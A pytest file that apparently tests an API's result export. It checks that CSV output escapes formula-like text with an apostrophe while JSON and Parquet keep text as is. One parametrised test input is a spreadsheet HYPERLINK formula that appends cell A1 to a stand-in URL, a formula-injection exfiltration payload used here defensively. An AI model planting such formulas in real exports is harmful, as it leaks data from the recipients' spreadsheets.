"""Results as files: a text in CSV is no formula, every other format holds it as it is."""

import csv
import io
import json
from decimal import Decimal
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from api.export.results import ResultFormat, write_result
from api.repositories.engine import ResultColumn, Rows


def _file(form: ResultFormat, type_name: str, *values: Any, name: str = "value") -> bytes:
    return write_result(Rows((ResultColumn(name, type_name),), [[it] for it in values], truncated=False), {}, form)


def _csv(type_name: str, *values: Any, name: str = "value") -> list[list[str]]:
    return list(csv.reader(io.StringIO(_file("csv", type_name, *values, name=name).decode(), newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    text = f'{start}HYPERLINK("http://x.invalid/?"&A1,"more")'
    assert _csv("varchar", text) == [["value"], [f"'{text}"]]


@pytest.mark.parametrize("text", ["", "a=1", "'=1", " =1", "1-2", "⁼1"])
def test_other_texts_stay(text: str) -> None:
    assert _csv("varchar", text, "x")[1:] == [[text] if text else [""], ["x"]]


def test_a_number_below_zero_stays_a_number() -> None:
    assert _csv("decimal(24,12)", Decimal("-0.050000000000"))[1] == ["-0.05"]
    assert _csv("bigint", -3)[1] == ["-3"]
    assert _csv("double", -1.5e-7, float("-inf"))[1:] == [["-1.5e-07"], ["-Infinity"]]


def test_the_name_of_a_column_is_a_text_too() -> None:
    assert _csv("bigint", 1, name="=1+1") == [["'=1+1"], ["1"]]


def test_lists_and_maps_begin_with_their_bracket() -> None:
    assert _csv("array(varchar)", ["=1"], ["-2"])[1:] == [['["=1"]'], ['["-2"]']]
    assert _csv("map(varchar, varchar)", {"=a": "@b"})[1] == ['{"=a": "@b"}']


def test_json_and_parquet_hold_the_text_as_it_is() -> None:
    texts = ["=1+1", "-x", "\tq"]
    assert json.loads(_file("json", "varchar", *texts))["rows"] == [[it] for it in texts]
    assert pq.read_table(pa.BufferReader(_file("parquet", "varchar", *texts))).column(0).to_pylist() == texts
